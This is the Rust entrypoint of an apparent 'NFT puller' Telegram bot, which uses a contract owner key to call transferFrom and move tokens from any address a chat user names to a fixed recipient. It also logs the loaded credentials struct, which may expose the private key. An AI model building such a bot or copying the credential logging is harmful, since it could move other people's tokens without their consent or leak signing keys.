//! NFT puller chat bot entrypoint.
//!
//! The bot walks each chat through a short conversation (sender address, token
//! contract, token ids) and then calls `transferFrom` once per token id, moving every
//! token from the sender to the configured recipient. Transactions are signed locally
//! with the contract owner key.
//!
//! Commands:
//! - `/start` – begin a new request, replacing any previous one
//! - `/reset` – discard the current request
//!
//! Environment:
//! - `.env` values loaded at startup
//! - `CONTRACT_OWNER_PRIVATE_KEY`, `RECIPIENT`, `ETHEREUM_NODE_URL`,
//!   `TELEGRAM_BOT_TOKEN`, `ETHERSCAN_API_KEY` are required
//! - `CONFIG_FILE` points at the optional TOML configuration
//! - `RUST_LOG` controls log filtering

use dotenvy::dotenv;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use crate::chain::NodeClient;
use crate::chain::abi::EtherscanAbiResolver;
use crate::chain::etherscan::EtherscanClient;
use crate::chain::evm::AlloyNode;
use crate::chain::gas::EtherscanGasOracle;
use crate::chat::ChatTransport;
use crate::chat_queue::ChatQueueManager;
use crate::config::BotConfig;
use crate::conversation::Conversation;
use crate::from_env::Credentials;
use crate::handlers::HealthState;
use crate::session::SessionStore;
use crate::sig_down::SigDown;
use crate::telegram::TelegramTransport;
use crate::telemetry::Telemetry;
use crate::transfer::TransferPipeline;

mod chain;
mod chat;
mod chat_queue;
mod config;
mod conversation;
mod from_env;
mod handlers;
mod session;
mod sig_down;
mod telegram;
mod telemetry;
#[cfg(test)]
mod test_utils;
mod transfer;

/// Extra time granted to running transfer rounds on shutdown, on top of the
/// receipt timeout.
const DRAIN_GRACE: Duration = Duration::from_secs(30);

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    // Load .env variables
    dotenv().ok();

    let telemetry = Telemetry::new()
        .with_name(env!("CARGO_PKG_NAME"))
        .with_version(env!("CARGO_PKG_VERSION"))
        .register();

    let config = match BotConfig::from_env() {
        Ok(config) => {
            tracing::info!("Configuration loaded successfully");
            config
        }
        Err(e) => {
            tracing::error!("Failed to load configuration: {}", e);
            return Err(e.into());
        }
    };

    let credentials = match Credentials::from_env() {
        Ok(credentials) => credentials,
        Err(e) => {
            tracing::error!("Invalid environment: {}", e);
            return Err(e.into());
        }
    };
    tracing::info!(?credentials, "Credentials loaded");

    let node = match AlloyNode::try_new(credentials.node_url.clone(), &config.chain) {
        Ok(node) => node,
        Err(e) => {
            tracing::error!("Failed to create Ethereum provider: {}", e);
            return Err(e);
        }
    };
    // Abort early if the node serves another chain than the one we sign for
    node.verify_chain_id(config.chain.chain_id).await?;
    let node: Arc<dyn NodeClient> = Arc::new(node);

    let explorer = EtherscanClient::new(
        &config.explorer,
        config.chain.chain_id,
        credentials.explorer_api_key.clone(),
    )?;
    let resolver = Arc::new(EtherscanAbiResolver::new(explorer.clone()));
    let oracle = Arc::new(EtherscanGasOracle::new(explorer));

    let pipeline = Arc::new(TransferPipeline::new(
        node,
        oracle,
        credentials.wallet(),
        credentials.recipient,
        config.chain.clone(),
    ));
    tracing::info!(
        signer = %pipeline.signer(),
        recipient = %pipeline.recipient(),
        chain_id = config.chain.chain_id,
        gas_limit_mode = ?config.chain.gas_limit_mode,
        "Transfer pipeline ready"
    );

    let transport: Arc<dyn ChatTransport> = Arc::new(TelegramTransport::new(
        &config.telegram,
        &credentials.telegram_token,
    )?);
    let sessions = SessionStore::new();
    let conversation = Arc::new(Conversation::new(
        sessions.clone(),
        resolver,
        pipeline.clone(),
        transport.clone(),
        config.conversation.clone(),
    ));
    let queues = Arc::new(ChatQueueManager::new(conversation));

    let sig_down = SigDown::try_new()?;

    let server = if config.server.enabled {
        let state = Arc::new(HealthState {
            signer: pipeline.signer(),
            recipient: pipeline.recipient(),
            sessions: sessions.clone(),
            queues: queues.clone(),
        });
        let http_endpoints = handlers::routes()
            .with_state(state)
            .layer(telemetry.http_tracing());

        let host: IpAddr = config.server.host.parse()?;
        let addr = SocketAddr::new(host, config.server.port);
        let listener = match tokio::net::TcpListener::bind(addr).await {
            Ok(listener) => listener,
            Err(e) => {
                tracing::error!("Failed to bind to {}: {}", addr, e);
                return Err(e.into());
            }
        };
        tracing::info!("Starting health server at http://{}", addr);

        let axum_cancellation_token = sig_down.cancellation_token();
        let axum_graceful_shutdown = async move { axum_cancellation_token.cancelled().await };
        Some(tokio::spawn(async move {
            axum::serve(listener, http_endpoints)
                .with_graceful_shutdown(axum_graceful_shutdown)
                .await
        }))
    } else {
        None
    };

    chat::poll_loop(
        transport,
        queues.clone(),
        Duration::from_millis(config.telegram.error_backoff_ms),
        sig_down.cancellation_token(),
    )
    .await;

    // Rounds already running are never cancelled; give them time to report
    let drain_timeout = config.chain.receipt_timeout() + DRAIN_GRACE;
    if !queues.wait_idle(drain_timeout).await {
        tracing::warn!(
            active_chats = queues.stats().active_chats,
            "Shutting down with chats still in progress"
        );
    }
    if !sessions.is_empty() {
        tracing::info!(
            open_sessions = sessions.len(),
            "Discarding unfinished conversations"
        );
    }

    if let Some(server) = server {
        match server.await {
            Ok(Ok(())) => tracing::info!("Health server stopped"),
            Ok(Err(e)) => tracing::error!("Health server failed: {e}"),
            Err(e) => tracing::error!("Health server task panicked: {e}"),
        }
    }

    Ok(())
}
